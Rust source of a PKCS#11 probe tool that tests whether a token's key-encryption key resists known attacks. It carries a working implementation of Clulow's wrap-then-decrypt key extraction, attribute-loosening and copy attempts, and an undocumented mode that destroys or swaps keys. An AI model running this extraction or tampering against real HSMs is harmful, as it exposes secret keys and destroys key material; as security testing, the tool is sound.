//! hsm-probe: a test tool that looks at a token directly through PKCS#11, independently of the
//! broker, and tries the attacks a KEK template must withstand. It prints one JSON document.
//!
//! ```text
//! hsm-probe inspect MODULE LABEL PIN
//!     every key object: class, CKA_ID, label, the security attributes, and whether CKA_VALUE
//!     (or CKA_PRIVATE_EXPONENT) can be read
//! hsm-probe attack MODULE LABEL PIN ID_HEX
//!     against the KEK with that CKA_ID: Clulow's wrap-then-decrypt, adding a role with
//!     C_SetAttributeValue, copying with added roles via C_CopyObject, reading CKA_VALUE
//! ```
//!
//! SoftHSM2 reads SOFTHSM2_CONF at start: run this with the token's environment.

use std::process::ExitCode;

use cryptoki::{
    context::{CInitializeArgs, CInitializeFlags, Pkcs11},
    mechanism::Mechanism,
    object::{Attribute, AttributeType, KeyType, ObjectClass, ObjectHandle},
    session::{Session, UserType},
    types::AuthPin,
};
use serde_json::{Value, json};

fn main() -> ExitCode {
    let args: Vec<String> = std::env::args().collect();
    let result = match args.get(1).map(String::as_str) {
        Some("inspect") if args.len() == 5 => {
            open(&args[2], &args[3], &args[4]).and_then(|s| inspect(&s))
        }
        Some("attack") if args.len() == 6 => {
            open(&args[2], &args[3], &args[4]).and_then(|s| attack(&s, &args[5]))
        }
        Some("tamper") if args.len() == 7 => {
            open(&args[2], &args[3], &args[4]).and_then(|s| tamper(&s, &args[5], &args[6]))
        }
        _ => {
            Err("usage: hsm-probe inspect MODULE LABEL PIN | attack MODULE LABEL PIN ID_HEX".into())
        }
    };
    match result {
        Ok(v) => {
            println!("{v}");
            ExitCode::SUCCESS
        }
        Err(e) => {
            eprintln!("hsm-probe: {e}");
            ExitCode::FAILURE
        }
    }
}

fn open(module: &str, label: &str, pin: &str) -> Result<Session, String> {
    let ctx = Pkcs11::new(module).map_err(|e| format!("load {module}: {e}"))?;
    ctx.initialize(CInitializeArgs::new(CInitializeFlags::OS_LOCKING_OK))
        .map_err(|e| e.to_string())?;
    let slot = ctx
        .get_slots_with_initialized_token()
        .map_err(|e| e.to_string())?
        .into_iter()
        .find(|s| {
            ctx.get_token_info(*s)
                .map(|t| t.label().trim() == label)
                .unwrap_or(false)
        })
        .ok_or_else(|| format!("no token labelled {label:?}"))?;
    let s = ctx.open_rw_session(slot).map_err(|e| e.to_string())?;
    s.login(UserType::User, Some(&AuthPin::from(pin.to_string())))
        .map_err(|e| format!("login: {e}"))?;
    Ok(s)
}

fn key_objects(s: &Session) -> Result<Vec<(ObjectHandle, ObjectClass)>, String> {
    let mut out = Vec::new();
    for class in [
        ObjectClass::SECRET_KEY,
        ObjectClass::PRIVATE_KEY,
        ObjectClass::PUBLIC_KEY,
    ] {
        for h in s
            .find_objects(&[Attribute::Class(class)])
            .map_err(|e| e.to_string())?
        {
            out.push((h, class));
        }
    }
    Ok(out)
}

fn bool_attr(attrs: &[Attribute], t: AttributeType) -> Value {
    for a in attrs {
        if a.attribute_type() == t {
            return match a {
                Attribute::Token(v)
                | Attribute::Private(v)
                | Attribute::Sensitive(v)
                | Attribute::AlwaysSensitive(v)
                | Attribute::Extractable(v)
                | Attribute::NeverExtractable(v)
                | Attribute::Modifiable(v)
                | Attribute::Copyable(v)
                | Attribute::Derive(v)
                | Attribute::Sign(v)
                | Attribute::Verify(v)
                | Attribute::Encrypt(v)
                | Attribute::Decrypt(v)
                | Attribute::Wrap(v)
                | Attribute::Unwrap(v) => json!(v),
                _ => Value::Null,
            };
        }
    }
    Value::Null
}

/// Tries to read a secret attribute: "readable", "sensitive", "unavailable" or an error.
fn try_read(s: &Session, h: ObjectHandle, t: AttributeType) -> String {
    match s.get_attribute_info(h, &[t]) {
        Ok(info) => match info.first() {
            Some(cryptoki::object::AttributeInfo::Sensitive) => "sensitive".into(),
            Some(cryptoki::object::AttributeInfo::Available(_)) => {
                match s.get_attributes(h, &[t]) {
                    Ok(v) if !v.is_empty() => "readable".into(),
                    Ok(_) => "unavailable".into(),
                    Err(e) => format!("error: {e}"),
                }
            }
            Some(other) => format!("{other:?}").to_lowercase(),
            None => "unavailable".into(),
        },
        Err(e) => format!("error: {e}"),
    }
}

const FLAGS: &[(&str, AttributeType)] = &[
    ("token", AttributeType::Token),
    ("private", AttributeType::Private),
    ("sensitive", AttributeType::Sensitive),
    ("always_sensitive", AttributeType::AlwaysSensitive),
    ("extractable", AttributeType::Extractable),
    ("never_extractable", AttributeType::NeverExtractable),
    ("modifiable", AttributeType::Modifiable),
    ("copyable", AttributeType::Copyable),
    ("derive", AttributeType::Derive),
    ("sign", AttributeType::Sign),
    ("verify", AttributeType::Verify),
    ("encrypt", AttributeType::Encrypt),
    ("decrypt", AttributeType::Decrypt),
    ("wrap", AttributeType::Wrap),
    ("unwrap", AttributeType::Unwrap),
];

fn inspect(s: &Session) -> Result<Value, String> {
    let mut objects = Vec::new();
    for (h, class) in key_objects(s)? {
        let mut types = vec![AttributeType::Id, AttributeType::Label];
        types.extend(FLAGS.iter().map(|f| f.1));
        let attrs: Vec<Attribute> = types
            .iter()
            .filter_map(|t| s.get_attributes(h, &[*t]).ok().and_then(|mut v| v.pop()))
            .collect();
        let mut o = serde_json::Map::new();
        o.insert("class".into(), json!(class.to_string()));
        for a in &attrs {
            match a {
                Attribute::Id(v) => {
                    o.insert("id".into(), json!(hex::encode(v)));
                }
                Attribute::Label(v) => {
                    o.insert("label".into(), json!(String::from_utf8_lossy(v)));
                }
                _ => {}
            }
        }
        for (name, t) in FLAGS {
            o.insert((*name).into(), bool_attr(&attrs, *t));
        }
        let secret = if class == ObjectClass::PRIVATE_KEY {
            AttributeType::PrivateExponent
        } else {
            AttributeType::Value
        };
        if class != ObjectClass::PUBLIC_KEY {
            o.insert("value".into(), json!(try_read(s, h, secret)));
        }
        objects.push(Value::Object(o));
    }
    Ok(json!({ "objects": objects }))
}

fn attack(s: &Session, id_hex: &str) -> Result<Value, String> {
    let id = hex::decode(id_hex).map_err(|e| e.to_string())?;
    let found = s
        .find_objects(&[Attribute::Id(id)])
        .map_err(|e| e.to_string())?;
    let kek = found
        .into_iter()
        .find(|h| {
            matches!(s.get_attributes(*h, &[AttributeType::Class]).as_deref(),
                Ok([Attribute::Class(c)]) if *c == ObjectClass::SECRET_KEY || *c == ObjectClass::PRIVATE_KEY)
        })
        .ok_or("no secret or private key with that id")?;
    // A sensitive, extractable target: what an attacker wants to read.
    let target = s
        .create_object(&[
            Attribute::Class(ObjectClass::SECRET_KEY),
            Attribute::KeyType(KeyType::AES),
            Attribute::Token(false),
            Attribute::Sensitive(true),
            Attribute::Extractable(true),
            Attribute::Value(vec![0x42; 32]),
        ])
        .map_err(|e| format!("create target: {e}"))?;
    let outcome = |r: Result<(), String>| match r {
        Ok(()) => json!("succeeded"),
        Err(e) => json!(format!("refused: {e}")),
    };
    // 1. Clulow: wrap the target under the KEK, then decrypt the blob with the same KEK.
    let clulow_result = clulow(s, kek, target).map(|_| ());
    // The same attack against a deliberately bad key (wrap + decrypt) shows the attack code
    // works on this token: it must succeed and give back the target's value.
    let control = (|| -> Result<bool, String> {
        let bad = s
            .create_object(&[
                Attribute::Class(ObjectClass::SECRET_KEY),
                Attribute::KeyType(KeyType::AES),
                Attribute::Token(false),
                Attribute::Sensitive(true),
                Attribute::Wrap(true),
                Attribute::Decrypt(true),
                Attribute::Value(vec![0x17; 32]),
            ])
            .map_err(|e| format!("create control key: {e}"))?;
        let r = clulow(s, bad, target);
        let _ = s.destroy_object(bad);
        r.map(|plain| plain == vec![0x42; 32])
    })();
    // 2. Add the missing role in place.
    let set_attr = s
        .update_attributes(kek, &[Attribute::Wrap(true), Attribute::Decrypt(true)])
        .map_err(|e| format!("C_SetAttributeValue: {e}"));
    // 3. Copy with an added role.
    let copy = (|| -> Result<(), String> {
        let c = s
            .copy_object(
                kek,
                &[
                    Attribute::Token(false),
                    Attribute::Wrap(true),
                    Attribute::Decrypt(true),
                ],
            )
            .map_err(|e| format!("C_CopyObject: {e}"))?;
        let _ = s.destroy_object(c);
        Ok(())
    })();
    // 4. Make it extractable / not sensitive.
    let loosen = s
        .update_attributes(
            kek,
            &[Attribute::Sensitive(false), Attribute::Extractable(true)],
        )
        .map_err(|e| format!("C_SetAttributeValue: {e}"));
    let _ = s.destroy_object(target);
    let secret = if matches!(s.get_attributes(kek, &[AttributeType::Class]).as_deref(), Ok([Attribute::Class(c)]) if *c == ObjectClass::PRIVATE_KEY)
    {
        AttributeType::PrivateExponent
    } else {
        AttributeType::Value
    };
    Ok(json!({
        "control_bad_key_extracts_target": match control { Ok(v) => json!(v), Err(e) => json!(e) },
        "clulow_wrap_then_decrypt": outcome(clulow_result),
        "set_attribute_add_role": outcome(set_attr),
        "copy_object_add_role": outcome(copy),
        "loosen_sensitive_extractable": outcome(loosen),
        "read_value": try_read(s, kek, secret),
    }))
}

/// Wraps `target` under `kek`, then inverts the RFC 3394/5649 wrapping with `kek`'s own
/// AES-ECB decryption, block by block (Clulow's attack); returns the recovered key bytes.
fn clulow(s: &Session, kek: ObjectHandle, target: ObjectHandle) -> Result<Vec<u8>, String> {
    let mut last = String::new();
    for (wrap_mech, name) in [
        (Mechanism::AesKeyWrap, "CKM_AES_KEY_WRAP"),
        (Mechanism::AesKeyWrapPad, "CKM_AES_KEY_WRAP_PAD"),
    ] {
        let blob = match s.wrap_key(&wrap_mech, kek, target) {
            Ok(b) => b,
            Err(e) => {
                last = format!("C_WrapKey({name}): {e}");
                continue;
            }
        };
        // RFC 3394 section 2.2.2, with C_Decrypt(CKM_AES_ECB) as the block cipher.
        let n = blob.len() / 8 - 1;
        let mut a: [u8; 8] = blob[..8].try_into().map_err(|_| "short blob")?;
        let mut r: Vec<[u8; 8]> = blob[8..]
            .chunks(8)
            .map(|c| c.try_into().unwrap_or([0; 8]))
            .collect();
        for j in (0..6u64).rev() {
            for i in (1..=n).rev() {
                let t = (n as u64) * j + i as u64;
                let mut block = [0u8; 16];
                let at = u64::from_be_bytes(a) ^ t;
                block[..8].copy_from_slice(&at.to_be_bytes());
                block[8..].copy_from_slice(&r[i - 1]);
                let b = s
                    .decrypt(&Mechanism::AesEcb, kek, &block)
                    .map_err(|e| format!("C_Decrypt(CKM_AES_ECB): {e}"))?;
                a.copy_from_slice(&b[..8]);
                r[i - 1].copy_from_slice(&b[8..16]);
            }
        }
        return Ok(r.concat());
    }
    Err(last)
}

fn tamper(s: &Session, id_hex: &str, mode: &str) -> Result<Value, String> {
    let id = hex::decode(id_hex).map_err(|e| e.to_string())?;
    let found = s
        .find_objects(&[Attribute::Id(id.clone())])
        .map_err(|e| e.to_string())?;
    let new_key = |roles: &[Attribute]| -> Result<(), String> {
        let mut t = vec![
            Attribute::Class(ObjectClass::SECRET_KEY),
            Attribute::KeyType(KeyType::AES),
            Attribute::ValueLen(32.into()),
            Attribute::Token(true),
            Attribute::Private(true),
            Attribute::Sensitive(true),
            Attribute::Extractable(false),
            Attribute::Modifiable(false),
            Attribute::Copyable(false),
            Attribute::Derive(false),
            Attribute::Sign(false),
            Attribute::Verify(false),
            Attribute::Id(id.clone()),
            Attribute::Label(b"kb:tampered".to_vec()),
        ];
        t.extend_from_slice(roles);
        s.generate_key(&Mechanism::AesKeyGen, &t)
            .map(|_| ())
            .map_err(|e| format!("C_GenerateKey: {e}"))
    };
    let destroy_all = || -> Result<(), String> {
        for h in &found {
            s.destroy_object(*h)
                .map_err(|e| format!("C_DestroyObject: {e}"))?;
        }
        Ok(())
    };
    let gcm_roles = [
        Attribute::Encrypt(true),
        Attribute::Decrypt(true),
        Attribute::Wrap(false),
        Attribute::Unwrap(false),
        Attribute::AllowedMechanisms(vec![cryptoki::mechanism::MechanismType::AES_GCM]),
    ];
    match mode {
        "destroy" => destroy_all()?,
        "duplicate" => new_key(&gcm_roles)?,
        "replace-bad" => {
            destroy_all()?;
            new_key(&[
                Attribute::Encrypt(true),
                Attribute::Decrypt(true),
                Attribute::Wrap(true),
                Attribute::Unwrap(true),
            ])?
        }
        "replace-good" => {
            destroy_all()?;
            new_key(&gcm_roles)?
        }
        other => return Err(format!("unknown tamper mode {other:?}")),
    }
    Ok(json!({ "tampered": mode, "objects_before": found.len() }))
}
